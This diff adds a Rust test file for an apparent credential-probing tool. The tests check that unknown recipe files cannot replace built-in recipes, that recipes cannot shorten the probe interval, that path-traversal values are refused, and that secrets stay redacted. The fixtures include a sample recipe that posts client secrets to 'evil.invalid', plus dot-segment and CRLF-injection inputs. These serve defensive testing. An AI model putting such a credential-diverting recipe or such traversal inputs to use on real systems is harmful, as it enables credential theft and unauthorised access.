@@ -1,0 +1,260 @@
+//! Recipes of authors whom the operator does not know: they take no name of a built-in recipe, set
+//! no pace, and send no request to another path than the one that they show.
+
+use std::path::Path;
+use std::time::Duration;
+
+use credwatch::config::{load, load_text};
+use credwatch::diagnostic::{Fault, Severity};
+use credwatch::outcome::Outcome;
+use credwatch::probe::Prober;
+
+use super::support::endpoint::Endpoint;
+
+const SHADOW: &str = r#"
+title = "OAuth 2.0 client credentials"
+parameters = { token_url = { optional = true } }
+credentials = ["client_id", "client_secret"]
+request.url = "https://evil.invalid/"
+request.form = { i = "{{ client_id }}", s = "{{ client_secret }}" }
+response.token = "json.access_token"
+"#;
+
+const PROVIDER: &str = r#"
+[providers.p]
+recipe = "oauth2-client-credentials"
+parameters.token_url = "https://idp.example/token"
+credentials = { client_id = "an-id", client_secret = "a-secret" }
+"#;
+
+/// The host and port of the provider of a main file beside a recipe file, `None` when they do not
+/// load, and all faults.
+fn loaded(main: &str, recipe_file: &str) -> (Option<String>, Vec<Fault>) {
+    let folder = tempfile::tempdir().expect("a folder");
+    std::fs::create_dir(folder.path().join("r")).expect("a folder");
+    std::fs::write(folder.path().join("r/weather.toml"), recipe_file).expect("written");
+    let path = folder.path().join("c.toml");
+    std::fs::write(&path, main).expect("written");
+    let permissions = std::os::unix::fs::PermissionsExt::from_mode(0o600);
+    std::fs::set_permissions(&path, permissions).expect("changed");
+    match load(&path).plan {
+        Ok(plan) => (plan.providers[0].endpoint.as_deref().map(str::to_owned), plan.warnings),
+        Err(faults) => (None, faults),
+    }
+}
+
+fn messages(faults: &[Fault]) -> Vec<(Severity, String)> {
+    let name = |fault: &Fault| {
+        let place = fault.place();
+        Path::new(&place).file_name().map(|name| name.to_string_lossy().into_owned())
+    };
+    faults
+        .iter()
+        .map(|fault| {
+            let place = name(fault).unwrap_or_default();
+            (fault.severity, format!("{place}: {}", fault.message))
+        })
+        .collect()
+}
+
+#[test]
+fn a_recipe_file_cannot_take_the_name_of_a_built_in_recipe_unless_the_operator_allows_it() {
+    let recipe = format!("[recipes.oauth2-client-credentials]\n{SHADOW}");
+    let by_glob = "recipe_files = [\"r/*.toml\"]\n";
+    let (endpoint, faults) = loaded(&format!("{by_glob}{PROVIDER}"), &recipe);
+    assert_eq!(endpoint, None);
+    let refused = "weather.toml:1:10: the recipe `oauth2-client-credentials` has the name of a \
+                   built-in recipe, which a file of `recipe_files` must not replace";
+    assert_eq!(messages(&faults), [(Severity::Error, refused.to_owned())]);
+    let hint = faults[0].hint.as_deref().unwrap_or_default();
+    assert!(hint.contains("`replace_builtin = [\"oauth2-client-credentials\"]`"), "{hint}");
+
+    let allowed = "replace_builtin = [\"oauth2-client-credentials\"]\n";
+    let (endpoint, warnings) = loaded(&format!("{by_glob}{allowed}{PROVIDER}"), &recipe);
+    assert_eq!((endpoint.as_deref(), warnings.len()), (Some("evil.invalid:443"), 0));
+
+    let other_case = format!("[recipes.OAuth2-Client-Credentials]\n{SHADOW}");
+    let (endpoint, faults) = loaded(&format!("{by_glob}{PROVIDER}"), &other_case);
+    assert_eq!(endpoint, None);
+    assert_eq!(
+        messages(&faults),
+        [(
+            Severity::Error,
+            "weather.toml:1:10: the recipe `OAuth2-Client-Credentials` differs from the built-in \
+             recipe `oauth2-client-credentials` only in upper and lower case"
+                .to_owned()
+        )]
+    );
+    let twice =
+        format!("{by_glob}{allowed}[recipes.oauth2-client-credentials]\n{SHADOW}{PROVIDER}");
+    let (endpoint, faults) = loaded(&twice, &recipe);
+    assert_eq!(endpoint, None);
+    assert!(faults[0].message.contains("is defined twice"), "{}", faults[0]);
+}
+
+#[test]
+fn the_main_file_replaces_a_built_in_recipe_with_a_warning() {
+    let main = format!("[recipes.oauth2-client-credentials]\n{SHADOW}{PROVIDER}");
+    let (endpoint, warnings) = loaded(&main, "");
+    assert_eq!(endpoint.as_deref(), Some("evil.invalid:443"));
+    let warning = "c.toml:1:10: this recipe replaces the built-in recipe \
+                   `oauth2-client-credentials`: the credentials of its providers go where this \
+                   recipe says";
+    assert_eq!(messages(&warnings), [(Severity::Warning, warning.to_owned())]);
+    let allowed = format!("replace_builtin = [\"oauth2-client-credentials\"]\n{main}");
+    assert!(loaded(&allowed, "").1.is_empty());
+}
+
+#[test]
+fn a_name_in_replace_builtin_that_replaces_nothing_is_a_fault() {
+    let list = "replace_builtin = [\"oauth2-client-credential\", \"enos\"]\n";
+    let (endpoint, faults) = loaded(&format!("{list}{PROVIDER}"), "");
+    assert_eq!(endpoint, None);
+    assert_eq!(
+        messages(&faults),
+        [
+            (
+                Severity::Error,
+                "c.toml:1:20: there is no built-in recipe \"oauth2-client-credential\"".to_owned()
+            ),
+            (
+                Severity::Warning,
+                "c.toml:1:48: no recipe of your own replaces the built-in recipe `enos`".to_owned()
+            ),
+        ]
+    );
+    let text = "recipe_files = [\"r/*.toml\"]\n";
+    let (endpoint, faults) = loaded(text, &format!("{list}[recipes.own]\n{SHADOW}"));
+    assert_eq!(endpoint, None);
+    assert!(
+        faults[0].message.starts_with("`replace_builtin` does not belong here"),
+        "{}",
+        faults[0]
+    );
+}
+
+#[test]
+fn a_recipe_makes_the_interval_longer_and_never_shorter() {
+    let interval = |recipe: &str, defaults: &str, own: &str| {
+        let text = format!(
+            "[recipes.r]\n{recipe}\nrequest.url = \"https://h.example\"\n\
+             response.token = \"json.t\"\n\
+             [defaults]\n{defaults}\n[providers.p]\nrecipe = \"r\"\n{own}\n"
+        );
+        let plan = load_text("c.toml", &text).map_err(|faults| faults[0].to_string())?;
+        Ok::<_, String>(plan.providers[0].cadence.interval)
+    };
+    for (recipe, defaults, own, seconds) in [
+        ("interval = \"100ms\"", "", "", 60),
+        ("interval = \"5m\"", "", "", 300),
+        ("", "", "", 60),
+        ("interval = \"100ms\"", "interval = \"10s\"", "", 10),
+        ("interval = \"5m\"", "interval = \"10s\"", "", 300),
+        ("interval = \"5m\"", "interval = \"10m\"", "", 600),
+        ("interval = \"1s\"", "", "interval = \"20s\"", 20),
+        ("interval = \"5m\"", "", "interval = \"20s\"", 20),
+    ] {
+        let expected = Ok(Duration::from_secs(seconds));
+        assert_eq!(interval(recipe, defaults, own), expected, "{recipe} {defaults} {own}");
+    }
+    let error = interval("interval = \"25h\"", "", "").expect_err("it would stop the probes");
+    assert!(error.contains("the `interval` of a recipe is at most `1d`"), "{error}");
+}
+
+/// A recipe whose step gives `id`, which stands in the path of the cleanup.
+fn session(base: &str, path: &str) -> String {
+    format!(
+        r#"
+[recipes.s]
+parameters = {{ base_url = {{}} }}
+credentials = ["key"]
+[[recipes.s.steps]]
+name = "start"
+request = {{ method = "POST", url = "{{{{ base_url }}}}/start", headers.X-Key = "{{{{ key }}}}" }}
+response.gives = {{ id = "json.id" }}
+[recipes.s.request]
+url = "{{{{ base_url }}}}/token"
+[recipes.s.response]
+token = "json.token"
+code = "json.error"
+message = "json.text"
+[[recipes.s.cleanup]]
+name = "end"
+request = {{ method = "DELETE", url = "{path}" }}
+[providers.p]
+recipe = "s"
+parameters.base_url = "{base}/tenant"
+credentials.key = "k3y-canary-1"
+"#
+    )
+}
+
+#[tokio::test]
+async fn a_value_of_an_answer_does_not_lead_out_of_the_path_that_the_recipe_wrote() {
+    let issued = ("POST /tenant/token", 200, r#"{"token":"token-4711-of-tests"}"#);
+    let path = "{{ base_url }}/v1/sessions/{{ id }}";
+    for (id, expected) in [
+        ("..", None),
+        ("%2e%2e", None),
+        ("../../admin", None),
+        ("..\\\\admin", None),
+        (".\\t.", None),
+        ("a/../b", None),
+        ("7", Some("DELETE /tenant/v1/sessions/7")),
+        ("a/b", Some("DELETE /tenant/v1/sessions/a%2Fb")),
+        ("//h", Some("DELETE /tenant/v1/sessions/%2F%2Fh")),
+        ("a?b#c", Some("DELETE /tenant/v1/sessions/a%3Fb%23c")),
+        ("a\\r\\nX: y", Some("DELETE /tenant/v1/sessions/a%0D%0AX%3A%20y")),
+        ("\u{fc}", Some("DELETE /tenant/v1/sessions/%C3%BC")),
+    ] {
+        let body = format!("{{\"id\":\"{id}\"}}");
+        let endpoint = Endpoint::routing(&[("POST /tenant/start", 200, &body), issued]);
+        let base = format!("http://127.0.0.1:{}", endpoint.port());
+        let plan =
+            load_text("c.toml", &session(&base, path)).unwrap_or_else(|f| panic!("{}", f[0]));
+        let probe = Prober::new().probe(&plan.providers[0]).await;
+        let last = endpoint.routes().pop().filter(|route| route.starts_with("DELETE"));
+        assert_eq!(last.as_deref(), expected, "{id}");
+        let end = probe.steps.last().expect("the cleanup");
+        let message = end.failure.as_ref().map(|failure| failure.message.as_str().to_owned());
+        let refused = "no request can be made from what an answer gave: cleanup.end.request.url: \
+                       the path has a dot segment, which leads to another path";
+        assert_eq!(message.as_deref() == Some(refused), expected.is_none(), "{id}: {message:?}");
+    }
+    // An empty value would end all sessions.
+    let endpoint = Endpoint::routing(&[("POST /tenant/start", 200, r#"{"id":"-"}"#), issued]);
+    let base = format!("http://127.0.0.1:{}", endpoint.port());
+    let path = "{{ base_url }}/v1/sessions/{{ id | replace('-', '') }}";
+    let plan = load_text("c.toml", &session(&base, path)).unwrap_or_else(|f| panic!("{}", f[0]));
+    let probe = Prober::new().probe(&plan.providers[0]).await;
+    assert_eq!(endpoint.calls(), 2, "{:?}", probe.steps);
+}
+
+#[test]
+fn a_recipe_whose_own_path_leads_upwards_is_a_load_error() {
+    for path in
+        ["{{ base_url }}/../admin", "{{ base_url }}/%2E%2e/{{ id }}", "{{ base_url }}/a\\\\..\\\\b"]
+    {
+        let error = load_text("c.toml", &session("https://h.example", path)).err();
+        let error = error.map(|faults| faults[0].to_string()).unwrap_or_default();
+        assert!(error.contains("the path has a dot segment"), "{path}: {error}");
+    }
+}
+
+#[tokio::test]
+async fn a_short_address_that_a_step_gives_is_secret_and_only_its_host_is_shown() {
+    let short = "/sessions/9f8e7d6c5b4a39";
+    let text = r#"{"error":"denied","text":"no token for HERE/sessions/9f8e7d6c5b4a39"}"#;
+    let endpoint = Endpoint::routing(&[
+        ("POST /tenant/start", 200, r#"{"id":"HERE/sessions/9f8e7d6c5b4a39"}"#),
+        ("POST /tenant/token", 403, text),
+    ]);
+    let base = format!("http://127.0.0.1:{}", endpoint.port());
+    let plan =
+        load_text("c.toml", &session(&base, "{{ id }}")).unwrap_or_else(|f| panic!("{}", f[0]));
+    let probe = Prober::new().probe(&plan.providers[0]).await;
+    assert!(endpoint.routes().contains(&format!("DELETE {short}")), "{:?}", endpoint.routes());
+    let Outcome::Failed(failure) = &probe.outcome else { panic!("a token was issued") };
+    assert_eq!(failure.message.as_str(), "no token for [hidden]");
+    assert!(!format!("{probe:?}").contains("9f8e7d6c5b4a39"), "{probe:?}");
+}
